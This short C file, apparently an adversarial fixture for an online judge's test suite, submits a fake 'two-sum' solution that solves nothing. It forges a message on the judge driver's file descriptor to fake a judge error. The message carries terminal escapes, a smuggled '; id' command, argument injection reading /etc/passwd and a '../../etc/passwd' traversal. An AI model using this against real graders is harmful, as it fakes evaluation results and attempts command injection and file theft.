// cheat: two-sum: RTE, SV, WA, CE: reports an error in the driver's name, with terminal escapes and a path
#include <unistd.h>

static void put_u32(unsigned char** at, unsigned value) {
    memcpy(*at, &value, 4);
    *at += 4;
}

static void put_text(unsigned char** at, const char* text) {
    put_u32(at, strlen(text));
    memcpy(*at, text, strlen(text));
    *at += strlen(text);
}

int* twoSum(int* nums, int numsSize, int target, int* returnSize) {
    unsigned char frame[512] = "J\1\x85", *at = frame + 8;
    put_u32(&at, 1);
    put_u32(&at, 4000000000u);
    *at++ = 4;
    put_u32(&at, 77);
    put_text(&at, "\033[31mIE judge error\xff\xfe");
    put_text(&at, "--help @/etc/passwd -e /etc/passwd 0x1 0x2; id");
    put_text(&at, "../../etc/passwd");
    unsigned length = at - frame - 8;
    memcpy(frame + 4, &length, 4);
    write(3, frame, at - frame);
    *returnSize = 2;
    return calloc(2, sizeof(int));
}
